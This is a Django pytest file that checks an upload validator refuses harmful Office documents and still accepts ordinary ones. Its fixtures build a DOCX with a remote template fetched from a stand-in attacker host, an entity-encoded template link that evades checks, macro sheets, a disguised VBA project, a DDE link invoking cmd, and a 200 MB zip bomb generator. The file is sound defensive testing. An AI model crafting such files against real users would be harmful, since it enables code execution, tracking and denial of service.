"""Harmful office files (remote templates, macro sheets, zip bombs) are refused; ordinary
ones still pass."""

import io
import os
import time
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from programme import files
from programme.models import Document

from .helpers import add_data, media_files, upload, zipped

pytestmark = pytest.mark.django_db


# Issue 21, row 8: the checks looked at names only and accepted a DOCX with a remote template,
# an XLSX with an Excel 4.0 macro sheet and a 200 MB zip bomb.

RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rels(*relationships):
    """A relationships part: (type, target, external) for each relationship."""
    items = "".join(
        f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for n, (kind, target, external) in enumerate(relationships, start=1)
    )
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        f'2006/relationships">{items}</Relationships>'
    )


def docx(extra=None, types=""):
    main_type = files.OOXML_MAIN_PARTS["docx"][0]
    content_types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types"><Override PartName="/word/document.xml" ContentType="{main_type}"/>'
        f"{types}</Types>"
    )
    return zipped({"[Content_Types].xml": content_types, "word/document.xml": "<x/>", **extra})


def xlsx(extra=None, types=""):
    main_type = files.OOXML_MAIN_PARTS["xlsx"][0]
    content_types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types"><Override PartName="/xl/workbook.xml" ContentType="{main_type}"/>'
        f"{types}</Types>"
    )
    return zipped({"[Content_Types].xml": content_types, "xl/workbook.xml": "<x/>", **extra})


def zip_of(entries, method=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zeros_bomb(size):
    """A DOCX with one entry of ``size`` zero bytes, written in pieces (about 1,000 to 1)."""
    buffer = io.BytesIO(docx({}))
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/media/image1.png", "w", force_zip64=True) as entry,
    ):
        chunk = bytes(1024 * 1024)
        for _ in range(size // len(chunk)):
            entry.write(chunk)
    return buffer.getvalue()


TEMPLATE = f"{RELATIONSHIPS}/attachedTemplate"
REMOTE_TEMPLATE = docx(
    {
        "word/settings.xml": "<w:settings/>",
        "word/_rels/settings.xml.rels": rels((TEMPLATE, "https://evil.example/t.dotm", True)),
    }
)
MACRO_SHEET_TYPE = "application/vnd.ms-excel.macrosheet+xml"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        pytest.param(REMOTE_TEMPLATE, "external", id="remote-template"),
        pytest.param(
            docx(
                {
                    "word/_rels/document.xml.rels": rels(
                        (f"{RELATIONSHIPS}/image", "https://tracker.example/p.png", True)
                    )
                }
            ),
            "external",
            id="linked-picture",
        ),
        pytest.param(
            docx(
                {
                    "word/_rels/settings.xml.rels": rels(
                        (TEMPLATE, "\\\\host\\share\\t.dotm", True)
                    ).replace('TargetMode="External"', 'TargetMode="&#69;xternal"')
                }
            ),
            "external",
            id="entity-encoded-mode",
        ),
        pytest.param(
            xlsx({"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"}), "macros", id="macro-sheet"
        ),
        pytest.param(
            xlsx(
                {"xl/worksheets/sheet2.xml": "<x/>"},
                f'<Override PartName="/xl/worksheets/sheet2.xml" ContentType="{MACRO_SHEET_TYPE}"/>',
            ),
            "macros",
            id="macro-sheet-by-content-type",
        ),
        pytest.param(
            xlsx(
                {
                    "xl/_rels/workbook.xml.rels": rels(
                        (
                            "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
                            "worksheets/sheet2.xml",
                            False,
                        )
                    )
                }
            ),
            "macros",
            id="macro-sheet-by-relationship",
        ),
        pytest.param(
            xlsx(
                {"xl/project.bin": "vba"},
                '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
            ),
            "macros",
            id="vba-renamed",
        ),
        pytest.param(
            xlsx({"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd"/>'}),
            "external",
            id="external-link-dde",
        ),
        pytest.param(
            zipped(
                {"content.xml": "<x/>", "Basic/Standard/Module1.xml": "<macro/>"},
                ("mimetype", "application/vnd.oasis.opendocument.text"),
            ),
            "macros",
            id="odt-basic",
        ),
        pytest.param(
            docx({"word/media/image1.png": bytes(5 * 1024 * 1024)}), "zip_bomb", id="packed"
        ),
        pytest.param(
            docx(
                {
                    "word/embeddings/a.xlsx": zip_of(
                        {"b.zip": zip_of({"c.zip": zip_of({"d.txt": "deep"})})}
                    )
                }
            ),
            "zip_bomb",
            id="nested-three-deep",
        ),
        pytest.param(
            docx(
                {
                    "word/embeddings/a.xlsx": zip_of(
                        {"x.xml": bytes(5 * 1024 * 1024)}, zipfile.ZIP_DEFLATED
                    )
                }
            ),
            "zip_bomb",
            id="bomb-inside",
        ),
    ],
)
def test_harmful_office_files_are_refused(data, code):
    with pytest.raises(ValidationError) as refused:
        files.detect(upload("document.docx", data))
    assert refused.value.code == code


def test_a_200_mb_zip_bomb_is_refused_without_unpacking(settings):
    data = zeros_bomb(200 * 1024 * 1024)
    assert len(data) < 400 * 1024

    started = time.perf_counter()
    with pytest.raises(ValidationError) as refused:
        files.detect(upload("report.docx", data))
    assert refused.value.code == "too_big_unpacked"  # over the 100 MB unpacked in all
    assert time.perf_counter() - started < 0.5

    settings.DOCUMENT_MAX_UNPACKED_SIZE = 1024**3  # and packed 1,000 to 1
    with pytest.raises(ValidationError) as refused:
        files.detect(upload("report.docx", data))
    assert refused.value.code == "zip_bomb"


def test_the_unpacked_total_is_capped(settings):
    settings.DOCUMENT_MAX_UNPACKED_SIZE = 1024 * 1024
    data = docx({"word/media/image1.jpeg": os.urandom(600 * 1024)})
    assert files.detect(upload("report.docx", data)) == "docx"
    # Embedded archives count towards the same total.
    inner = zip_of({"photo.jpeg": os.urandom(600 * 1024)}, zipfile.ZIP_STORED)
    data = docx({"word/embeddings/sheet.xlsx": inner})
    with pytest.raises(ValidationError, match="would unpack to more than 1.0"):
        files.detect(upload("report.docx", data))


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(
            docx(
                {
                    "word/_rels/document.xml.rels": rels(
                        (f"{RELATIONSHIPS}/hyperlink", "https://ino.tomsk.ru/", True),
                        (f"{RELATIONSHIPS}/styles", "styles.xml", False),
                    )
                }
            ),
            id="hyperlink",
        ),
        pytest.param(
            docx({"word/embeddings/chart.xlsx": zip_of({"xl/workbook.xml": "<x/>" * 1000})}),
            id="embedded-workbook",
        ),
        pytest.param(docx({"word/media/image1.jpeg": os.urandom(2 * 1024 * 1024)}), id="picture"),
    ],
)
def test_ordinary_office_files_still_pass(data):
    assert files.detect(upload("report.docx", data)) == "docx"


def test_a_remote_template_is_a_form_error_and_nothing_is_saved(admin_client):
    before = media_files()
    response = admin_client.post(
        reverse("admin:programme_document_add"),
        add_data(file=upload("report.docx", REMOTE_TEMPLATE, "application/octet-stream")),
    )
    assert response.status_code == 200
    errors = response.context["adminform"].form.errors
    assert "loads content from elsewhere" in " ".join(errors["file"])
    assert not Document.objects.exists()
    assert media_files() == before
